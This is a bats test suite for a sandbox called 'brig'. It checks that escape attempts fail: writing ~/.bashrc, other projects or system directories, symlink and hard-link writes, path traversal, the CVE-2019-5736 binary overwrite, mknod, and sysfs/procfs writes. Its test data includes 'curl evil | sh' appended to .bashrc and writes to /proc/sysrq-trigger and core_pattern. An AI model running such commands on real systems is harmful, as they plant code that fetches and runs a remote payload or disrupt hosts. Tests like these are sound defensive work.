#!/usr/bin/env bats
# Writing outside the project: the home, other projects, system directories, the host's /tmp,
# through symlinks and hard links, brig's own binary (CVE-2019-5736), and kernel interfaces.
# The teardown checks that nothing outside the project changed.

load harden_helpers

setup_file() { attack_build; }
setup() { escape_setup; }
teardown() { escape_teardown; }

@test "[write-outside ~/.bashrc] the real shell start-up file stays as it was" {
	in_cell 'echo "curl evil | sh" >>"$HOME/.bashrc"; echo done'
	[ "$(cat "$HOME/.bashrc")" = bashrc ]
}

@test "[write-outside other-project] another project cannot be written" {
	in_cell 'echo pwned >"$HOME/projects/other/secret.txt" || echo refused; mkdir -p "$HOME/projects/other/x"'
	[ "$(cat "$HOME/projects/other/secret.txt")" = "other project secret" ]
	[ ! -e "$HOME/projects/other/x" ]
}

@test "[write-outside system] /etc, /usr, /var and /opt are read-only" {
	in_cell 'for d in /etc /usr /var /opt; do ./attack write $d/brig-escape; done'
	[ "$(printf '%s\n' "$output" | grep -c 'errno=EROFS\|errno=EACCES')" -eq 4 ]
	[ ! -e /etc/brig-escape ] && [ ! -e /usr/brig-escape ]
}

@test "[write-outside /tmp] the cell's /tmp is private: nothing lands in the host's /tmp" {
	local m="brig-escape-$$-$RANDOM"
	in_cell "echo x >/tmp/$m && echo written"
	[[ "$output" == *written* ]]
	[ ! -e "/tmp/$m" ]
}

@test "[symlink-write] a symlink made in the project cannot carry a write outside" {
	in_cell 'ln -s "$HOME/projects/other/secret.txt" s && ./attack write s'
	[[ "$(last)" == errno=* ]]
	[ "$(cat "$HOME/projects/other/secret.txt")" = "other project secret" ]
	rm -f "$P/s"
}

@test "[symlink-write planted] a symlink planted before the run does not write the real ~/.bashrc" {
	ln -s "$HOME/.bashrc" "$P/rc"
	in_cell './attack write rc'
	[ "$(cat "$HOME/.bashrc")" = bashrc ]
	rm -f "$P/rc"
}

@test "[path-traversal] ../ out of the project cannot write a sibling project" {
	# the cell's home is an empty tmpfs: writing ~/.profile there is allowed and thrown away
	in_cell 'printf "sibling: "; ./attack write ../other/secret.txt; ./attack write ../../.profile'
	[[ "$output" == *"sibling: errno="* ]]
	[ ! -e "$HOME/.profile" ]
	[ "$(cat "$HOME/projects/other/secret.txt")" = "other project secret" ]
}

@test "[hardlink-write] a hard link to a file outside the project is refused" {
	in_cell 'ln "$HOME/projects/other/secret.txt" h || echo refused'
	[[ "$output" == *refused* ]]
	[ ! -e "$P/h" ]
}

@test "[CVE-2019-5736 /proc/self/exe] the running binaries cannot be opened for writing" {
	local before
	before=$(md5sum <"$BRIG")
	in_cell './attack open-write /proc/self/exe; ./attack open-write /proc/1/exe; sh -c "./attack open-write /proc/\$PPID/exe"'
	[ "$(printf '%s\n' "$output" | grep -c '^errno=')" -eq 3 ]
	[ "$(md5sum <"$BRIG")" = "$before" ]
}

@test "[mknod] device nodes cannot be created" {
	in_cell './attack mknod /tmp/sda; ./attack mknod ./sda'
	[ "$(printf '%s\n' "$output" | grep -c '^errno=EPERM')" -eq 2 ]
	[ ! -e "$P/sda" ]
}

@test "[sysfs-write] /sys is read-only" {
	in_cell 'echo 1 >/sys/kernel/mm/ksm/run || echo refused; echo c >/sys/power/state || echo refused'
	[ "$(printf '%s\n' "$output" | grep -c refused)" -eq 2 ]
}

@test "[procfs-write] /proc/sys and /proc/sysrq-trigger cannot be written" {
	in_cell './attack open-write /proc/sys/kernel/hostname; ./attack open-write /proc/sysrq-trigger; ./attack open-write /proc/sys/kernel/core_pattern'
	[ "$(printf '%s\n' "$output" | grep -c '^errno=')" -eq 3 ]
}

@test "[device-access] no raw disks, memory or userfaultfd devices in the cell's /dev" {
	in_cell 'ls /dev/sda /dev/vda /dev/mem /dev/kmem /dev/port /dev/userfaultfd /dev/kvm 2>/dev/null | wc -l'
	[ "$(last)" = 0 ]
}
